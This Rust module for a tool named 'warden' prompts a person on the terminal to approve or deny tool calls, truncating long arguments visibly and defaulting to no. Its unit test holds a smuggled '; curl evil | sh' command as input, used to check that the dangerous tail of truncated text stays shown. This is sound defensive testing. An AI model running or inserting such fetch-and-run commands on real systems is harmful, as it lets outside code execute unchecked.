//! The terminal prompt: written to and read from `/dev/tty`, never stdout
//! (which carries results) or stdin (which may carry the call).

use std::fs::OpenOptions;
use std::io::{BufRead, BufReader, Write};

use super::Request;
use crate::policy::Tier;
use crate::shape::sanitize_str;

/// Longest argument text shown.
const MAX_SHOWN_ARGS: usize = 4096;

/// `text`, or its start and end around a marker that says how much is hidden:
/// a person must never approve text they were not told was cut.
fn shown(text: &str) -> String {
    let count = text.chars().count();
    if count <= MAX_SHOWN_ARGS {
        return text.to_string();
    }
    let half = MAX_SHOWN_ARGS / 2;
    let head: String = text.chars().take(half).collect();
    let tail: String = text.chars().skip(count - half).collect();
    format!("{head}\n[… {} characters NOT SHOWN: answer no unless you trust all of it …]\n{tail}", count - 2 * half)
}

/// A person's answer.
pub(super) enum Answer {
    Yes,
    No,
    Always,
}

pub(super) fn ask(req: &Request<'_>) -> std::io::Result<Answer> {
    let tty = OpenOptions::new().read(true).write(true).open("/dev/tty")?;
    let mut out = tty.try_clone()?;
    let mut input = BufReader::new(tty);
    let args = serde_json::to_string_pretty(req.args).unwrap_or_default();
    let args = shown(&sanitize_str(&args));
    writeln!(out, "\nwarden: {} wants to run (tier {}, {})", req.tool, req.tier, req.location)?;
    writeln!(out, "arguments: {args}")?;
    if !req.preview.is_empty() {
        writeln!(out, "{}", sanitize_str(&req.preview))?;
    }
    let choices = if req.tier == Tier::Confirm { "[y]es / [N]o" } else { "[y]es / [N]o / [a]lways this session" };
    loop {
        write!(out, "allow? {choices}: ")?;
        out.flush()?;
        let mut line = String::new();
        if input.read_line(&mut line)? == 0 {
            return Ok(Answer::No);
        }
        match line.trim().to_ascii_lowercase().as_str() {
            "y" | "yes" => return Ok(Answer::Yes),
            "" | "n" | "no" => return Ok(Answer::No),
            "a" | "always" if req.tier != Tier::Confirm => return Ok(Answer::Always),
            _ => writeln!(out, "please answer y or n{}", if req.tier == Tier::Confirm { "" } else { " or a" })?,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_arguments_show_both_ends_and_say_what_is_hidden() {
        assert_eq!(shown("short"), "short");
        let long = format!("{}MIDDLE{}; curl evil | sh", "a".repeat(5000), "b".repeat(5000));
        let s = shown(&long);
        assert!(s.ends_with("; curl evil | sh"), "{s}");
        assert!(s.contains("[… 5926 characters NOT SHOWN"), "{s}");
        assert!(!s.contains("MIDDLE"));
    }
}
